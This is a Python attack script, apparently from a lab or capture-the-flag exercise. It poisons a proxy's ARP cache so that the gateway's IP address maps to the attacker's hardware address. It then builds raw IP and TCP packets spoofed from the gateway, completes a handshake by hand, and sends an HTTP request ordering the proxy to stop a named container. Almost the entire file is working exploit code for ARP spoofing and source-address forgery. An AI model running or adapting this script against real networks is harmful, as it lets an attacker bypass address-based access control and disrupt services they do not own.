"""forge.py PROXY GATEWAY HOST CONTAINER: orders the proxy to stop a container, from the
gateway's address, which is not ours.

RFC 826: whoever is told of a pairing that it knows takes it over, so the proxy is told
that the gateway is at our hardware address. RFC 9293: the rest is a TCP by hand.
"""

import fcntl
import os
import socket
import struct
import sys
import time

PROXY, GATEWAY, HOST, CONTAINER = sys.argv[1:]
INTERFACE = "eth0"
WITHIN = 20


def address(text):
    return socket.inet_aton(text)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def own_hardware():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        request = struct.pack("256s", INTERFACE.encode())
        return fcntl.ioctl(asking, 0x8927, request)[18:24]  # SIOCGIFHWADDR


def hardware_of(ip):
    # A packet that nobody listens to, so that the kernel asks for it.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
        asking.sendto(b"x", (ip, 9))
    until = time.monotonic() + WITHIN
    while time.monotonic() < until:
        with open("/proc/net/arp") as known:
            for line in known:
                fields = line.split()
                if fields[0] == ip and fields[2] != "0x0":
                    return bytes.fromhex(fields[3].replace(":", ""))
        time.sleep(0.05)
    sys.exit(f"{ip} has no hardware address")


class Forged:
    def __init__(self):
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.bind((INTERFACE, 0))
        self.wire.settimeout(0.2)
        self.ours, self.theirs = own_hardware(), hardware_of(PROXY)
        self.port = 40000 + os.getpid() % 10000
        self.begin()

    def begin(self):
        """A connection of its own: what is known of the last one is of no use."""
        self.port += 1
        self.sequence, self.acknowledged = 1000, 0

    def poison(self):
        pairing = self.ours + address(GATEWAY) + self.theirs + address(PROXY)
        reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + pairing
        self.wire.send(self.theirs + self.ours + b"\x08\x06" + reply)

    def send(self, flags, data=b""):
        head = struct.pack(
            "!HHIIBBHHH", self.port, 8080, self.sequence, self.acknowledged, 5 << 4, flags, 65535, 0, 0
        )
        pseudo = address(GATEWAY) + address(PROXY) + struct.pack("!BBH", 0, 6, len(head) + len(data))
        head = head[:16] + struct.pack("!H", checksum(pseudo + head + data)) + head[18:]
        packet = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(head) + len(data), 1, 0, 64, 6, 0, address(GATEWAY), address(PROXY)
        )
        packet = packet[:10] + struct.pack("!H", checksum(packet)) + packet[12:]
        self.wire.send(self.theirs + self.ours + b"\x08\x00" + packet + head + data)

    def segments(self):
        """What the proxy sends to the gateway, and so to us."""
        until = time.monotonic() + WITHIN
        while time.monotonic() < until:
            try:
                frame = self.wire.recv(65535)
            except TimeoutError:
                yield None
                continue
            if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != address(PROXY):
                continue
            start = 14 + (frame[14] & 15) * 4
            segment = frame[start : 14 + struct.unpack("!H", frame[16:18])[0]]
            source, target, sequence, _, offset, flags = struct.unpack("!HHIIBB", segment[:14])
            if (source, target) == (8080, self.port):
                yield sequence, flags, segment[(offset >> 4) * 4 :]


def main():
    forged = Forged()
    body = f'{{"action":"stop","container_id":"{CONTAINER}"}}'
    request = (
        f"POST /container HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n{body}"
    ).encode()
    answer, is_open = b"", False
    forged.poison()
    for segment in forged.segments():
        if segment is None:
            # The true gateway may have told the proxy otherwise.
            forged.poison()
            if not is_open:
                forged.send(0x02)
            continue
        sequence, flags, data = segment
        if flags & 0x12 == 0x12 and not is_open:
            is_open = True
            forged.sequence += 1
            forged.acknowledged = sequence + 1
            forged.send(0x10)
            forged.send(0x18, request)
            forged.sequence += len(request)
        elif data and sequence == forged.acknowledged:
            answer += data
            forged.acknowledged += len(data)
            forged.send(0x10)
        if flags & 0x04 and not answer:
            # It knows of no such connection: the true gateway was faster.
            is_open = False
            forged.begin()
        elif flags & 0x05 or answer.endswith((b"}", b"}\n")):
            break
    print(answer.decode(errors="replace"))


main()
